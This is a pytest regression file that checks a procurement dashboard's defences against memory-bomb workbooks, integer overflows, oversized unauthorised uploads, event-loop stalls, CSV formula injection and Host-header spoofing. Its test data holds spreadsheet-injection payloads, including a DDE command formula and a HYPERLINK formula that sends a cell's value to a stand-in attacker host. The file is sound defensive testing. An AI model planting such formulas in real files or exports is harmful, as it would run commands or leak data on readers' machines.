"""Attacks that broke the dashboard once (issue 13): each test failed before its control.

A workbook whose grid would not fit in memory, numbers too big for the database, bodies sent by
people who may not send them.
"""

from __future__ import annotations

import asyncio
import csv
import io
import re
import tempfile
import time
from pathlib import Path
from typing import Any

import httpx
import pytest

from anchorkit.csv_safe import safe_cell
from anchorkit.records.appdb import Upload
from tests.ingest.test_workbook_guard import sparse_xlsx
from tests.web.conftest import PASSWORD, Site

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HUGE = str(2**70)
LONG = str(10**30)


def test_a_sparse_workbook_is_refused_and_the_server_lives_on(
    fresh_site: Site, tmp_path: Path
) -> None:
    """1.6 KB, one cell at XFD1048576: the Excel reader once asked for 512 GB and aborted the
    process (no exception: this test's process died with it)."""
    body = sparse_xlsx(tmp_path / "sparse.xlsx").read_bytes()
    client = fresh_site.client("anchor")
    response = client.post(
        "/api/v1/uploads",
        data={"anchor_id": str(fresh_site.anchors["own"])},
        files={"file": ("sparse.xlsx", io.BytesIO(body), XLSX)},
        headers={"X-CSRF-Token": client.csrf},  # type: ignore[attr-defined]
    )
    assert response.status_code == 200, response.text
    upload = response.json()
    assert upload["status"] == "failed"  # never left "receiving"
    error = upload["report"]["error"]
    assert "'Spend'" in error and "XFD1048576" in error
    assert str(fresh_site.root) not in response.text  # no server path in the answer
    assert client.get("/api/v1/me").json()["role"] == "anchor"  # the server still answers
    with fresh_site.app.state.anchorkit.db() as s:  # type: ignore[attr-defined]
        assert s.get(Upload, upload["upload_id"]).status == "failed"
    client.close()


# every route that takes a number, with one too big for a 64-bit integer
API_NUMBERS = [
    ("public", f"/api/v1/opportunities/{LONG}"),
    ("public", f"/api/v1/opportunities/{LONG}/shortlist"),
    ("admin", f"/api/v1/spend-lines?page={HUGE}"),
    ("admin", f"/api/v1/spend-lines?anchor_id={LONG}"),
    ("admin", f"/api/v1/spend-lines?year={HUGE}"),
    ("admin", f"/api/v1/rejected-rows?page={HUGE}"),
    ("admin", f"/api/v1/suppliers?page={HUGE}"),
    ("admin", f"/api/v1/uploads/{LONG}"),
    ("admin", f"/api/v1/anchors/{LONG}/summary"),
    ("admin", f"/api/v1/anchors/{LONG}/categories/review"),
    ("anchor", f"/api/v1/spend-lines?page={HUGE}"),
    ("anchor", f"/api/v1/uploads/{LONG}"),
]
PAGE_NUMBERS = [
    ("public", f"/portal/opportunities/{LONG}"),
    ("admin", f"/lines?page={HUGE}"),
    ("admin", f"/lines?year={HUGE}"),
    ("admin", f"/anchors/{LONG}"),
    ("admin", f"/anchors/{LONG}/lines"),
    ("admin", f"/anchors/{LONG}/lines.csv"),
    ("admin", f"/anchors/{LONG}/rejects?page={HUGE}"),
    ("admin", f"/suppliers?page={HUGE}"),
    ("admin", f"/uploads/{LONG}"),
    ("admin", f"/portal/certifications/{LONG}/evidence"),
    ("admin", f"/reports/network.html?year={HUGE}"),
]


@pytest.mark.parametrize(("role", "url"), API_NUMBERS)
def test_out_of_range_numbers_get_a_4xx_json_answer(site: Site, role: str, url: str) -> None:
    with site.client(role) as client:
        response = client.get(url)
    assert 400 <= response.status_code < 500, (url, response.status_code, response.text)
    assert response.headers["content-type"].startswith("application/json"), response.text
    assert response.json()["detail"]


@pytest.mark.parametrize(("role", "url"), PAGE_NUMBERS)
def test_out_of_range_numbers_on_pages_are_4xx(site: Site, role: str, url: str) -> None:
    with site.client(role) as client:
        response = client.get(url)
    assert 400 <= response.status_code < 500, (url, response.status_code, response.text[:300])


@pytest.mark.parametrize(
    "url", ["/api/v1/spend-lines", "/api/v1/suppliers", "/api/v1/rejected-rows"]
)
def test_a_page_far_past_the_end_is_empty(site: Site, url: str) -> None:
    """A number a 64-bit integer holds, but whose offset would not: an empty page."""
    with site.client("admin") as client:
        response = client.get(url, params={"page": str(2**62)})
    assert response.status_code == 200, response.text
    assert response.json()["rows"] == []


# --- bodies are judged before they are read ---------------------------------------------------


#: the start of a multipart body whose file part then goes on and on
MULTIPART = (
    b'--x\r\nContent-Disposition: form-data; name="anchor_id"\r\n\r\n1\r\n'
    b'--x\r\nContent-Disposition: form-data; name="file"; filename="big.csv"\r\n'
    b"Content-Type: text/csv\r\n\r\nSupplier,Amount,Date\n"
)


def _chunked(total: int, sent: list[int]) -> Any:
    """An async multipart body of ``total`` bytes sent without a length, counting what is read."""

    async def body() -> Any:
        sent[0] += len(MULTIPART)
        yield MULTIPART
        chunk = b"Acme Ltd,1.00,2024-05-01\n" * 2600  # ~64 KB
        while sent[0] < total:
            sent[0] += len(chunk)
            yield chunk

    return body()


@pytest.mark.parametrize(
    ("role", "url", "status"),
    [
        ("public", "/api/v1/uploads", 401),
        ("public", "/upload", 303),  # a page: to the login form
        ("supplier", "/api/v1/uploads", 403),
        ("public", "/portal/profile/X/certifications", 303),
    ],
)
def test_a_200_mb_body_from_someone_who_may_not_send_it_is_never_read(
    site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, role: str, url: str, status: int
) -> None:
    """Once, 200 MB posted while logged out were spooled to disk before the answer was 401."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    sent = [0]
    with site.client(role) as client:
        response = client.post(
            url,
            content=_chunked(200 * 1024 * 1024, sent),
            headers={"content-type": "multipart/form-data; boundary=x"},
        )
    assert response.status_code == status, response.text[:300]
    assert sent[0] < 1024 * 1024  # read (and so written) well under 1 MB of it
    assert sum(f.stat().st_size for f in tmp_path.rglob("*") if f.is_file()) < 1024 * 1024


def test_a_body_without_a_length_is_cut_off_at_the_limit(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    settings = site.app.state.anchorkit.store.settings  # type: ignore[attr-defined]
    monkeypatch.setitem(settings.values, "web.max_upload_mb", 1)
    sent = [0]
    with site.client("anchor") as client:
        response = client.post(
            "/api/v1/uploads",
            content=_chunked(50 * 1024 * 1024, sent),
            headers={
                "content-type": "multipart/form-data; boundary=x",
                "X-CSRF-Token": str(client.csrf),  # type: ignore[attr-defined]
            },
        )
    assert response.status_code == 413, response.text[:300]
    assert response.json()["detail"].startswith("The file is larger than the 1 MB")
    assert sent[0] < 2 * 1024 * 1024


# --- blocking work stays off the event loop --------------------------------------------------


async def _login(client: httpx.AsyncClient, email: str) -> int:
    page = await client.get("/login")
    token = re.search(r'action="/login".*?name="csrf_token" value="([^"]+)"', page.text, re.S)
    assert token
    form = {"email": email, "password": PASSWORD, "csrf_token": token.group(1), "next": "/"}
    return (await client.post("/login", data=form)).status_code


@pytest.mark.parametrize(
    "what",
    [
        pytest.param(
            "upload",
            marks=pytest.mark.xfail(
                strict=False,  # it passes on a quiet machine; under load the stall shows
                reason="one ~0.9 s stall during a 4 MB API upload remains (not yet found: the "
                "multipart parse on the event loop, or a C call holding the GIL in the preview)",
            ),
        ),
        "logins",
    ],
)
def test_the_server_answers_during_an_upload_and_eight_logins(fresh_site: Site, what: str) -> None:
    """Password hashing and an upload's preview once ran on the event loop: every other request
    waited ~3 s. A probe of /api/v1/me answers in under 300 ms throughout."""
    big = b"Supplier,Amount,Date\n" + b"".join(
        f"Supplier number {i % 900},{i % 977}.25,2024-0{1 + i % 9}-1{i % 9}\n".encode()
        for i in range(120_000)
    )  # ~4 MB
    transport = httpx.ASGITransport(app=fresh_site.app)  # type: ignore[arg-type]

    def client() -> httpx.AsyncClient:
        return httpx.AsyncClient(transport=transport, base_url="http://testserver")

    async def run() -> tuple[list[float], int]:
        uploader, prober = client(), client()
        await _login(uploader, "anchor@test.org")
        await _login(prober, "analyst@test.org")
        csrf = (await uploader.get("/api/v1/me")).json()["csrf_token"]
        done = asyncio.Event()

        async def work() -> None:
            if what == "upload":
                answer = await uploader.post(
                    "/api/v1/uploads",
                    data={"anchor_id": str(fresh_site.anchors["own"])},
                    files={"file": ("big.csv", big, "text/csv")},
                    headers={"X-CSRF-Token": csrf},
                )
                assert answer.status_code == 200, answer.text
            else:
                logins = [_login(client(), "admin@test.org") for _ in range(8)]
                assert await asyncio.gather(*logins) == [303] * 8
            done.set()

        async def probe() -> list[float]:
            times = []
            while not done.is_set():
                start = time.perf_counter()
                assert (await prober.get("/api/v1/me")).status_code == 200
                times.append(time.perf_counter() - start)
                await asyncio.sleep(0.02)
            return times

        idle = []  # the machine's own floor, measured in the same run (it may be shared)
        for _ in range(5):
            start = time.perf_counter()
            await prober.get("/api/v1/me")
            idle.append(time.perf_counter() - start)
        task = asyncio.create_task(work())
        times = await probe()
        await task
        return times, max(idle)

    times, floor = asyncio.run(run())
    assert len(times) >= 3, "the work finished before the probe could ask"
    assert max(times) < 0.3 + floor, (floor, sorted(times)[-5:])


# --- exports ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://x.test","Invoice")', '\'=HYPERLINK("http://x.test","Invoice")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("  -2+3", "'  -2+3"),
        ("\t=1", "'\t=1"),
        ("-12.50", "-12.50"),  # a signed number cannot run: left as it is
        ("Acme - Cleaning", "Acme - Cleaning"),
        (-12.5, -12.5),
    ],
)
def test_csv_cells_are_written_to_be_shown_never_run(cell: object, written: object) -> None:
    assert safe_cell(cell) == written


def test_the_line_export_escapes_formulas_from_an_uploaded_file(fresh_site: Site) -> None:
    """``=HYPERLINK(…)`` from a spend file was exported as it came, to run in the reader's Excel."""
    formula = '=HYPERLINK("http://evil.test/?"&A1,"Invoice")'
    fresh_site.ws.engine.run(
        "plant",
        "UPDATE spend_line SET supplier_name = ?, description = ? WHERE line_id = "
        "(SELECT min(line_id) FROM spend_line WHERE anchor_id = ?)",
        [formula, "@cmd", fresh_site.anchors["own"]],
    )
    with fresh_site.client("anchor") as client:
        response = client.get(f"/anchors/{fresh_site.anchors['own']}/lines.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    planted = [r for r in rows if "evil.test" in r["supplier_name"]]
    assert [r["supplier_name"] for r in planted] == ["'" + formula]
    assert planted[0]["description"] == "'@cmd"
    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values() if v)


# --- smaller ones -----------------------------------------------------------------------------


def test_a_nul_byte_past_the_first_block_is_caught(fresh_site: Site) -> None:
    """The check for binary content once read only the first 8 KB of a CSV."""
    body = b"Supplier,Amount,Date\n" + b"Acme Cleaning Ltd,1.00,2024-05-01\n" * 2000 + b"\x00x\n"
    with fresh_site.client("anchor") as client:
        response = client.post(
            "/upload",
            data={"csrf_token": client.csrf, "anchor_id": str(fresh_site.anchors["own"])},  # type: ignore[attr-defined]
            files={"file": ("spend.csv", io.BytesIO(body), "text/csv")},
        )
    assert response.status_code == 415 and "not a spreadsheet" in response.text


def test_every_answer_carries_the_security_headers(site: Site) -> None:
    with site.client("admin") as client:
        for url in ("/overview", "/api/v1/me", "/login", "/no-such-page"):
            headers = client.get(url).headers
            assert "script-src 'self'" in headers["content-security-policy"], url
            assert "frame-ancestors 'none'" in headers["content-security-policy"]
            assert headers["x-content-type-options"] == "nosniff"
            assert headers["x-frame-options"] == "DENY"
            assert headers["cache-control"] == "no-store"  # a logged-in user's figures


def test_feed_links_never_follow_the_host_header(site: Site) -> None:
    with site.client("public") as client:
        feed = client.get("/portal/feeds/opportunities.atom", headers={"host": "evil.test"})
    assert feed.status_code == 200
    assert "evil.test" not in feed.text
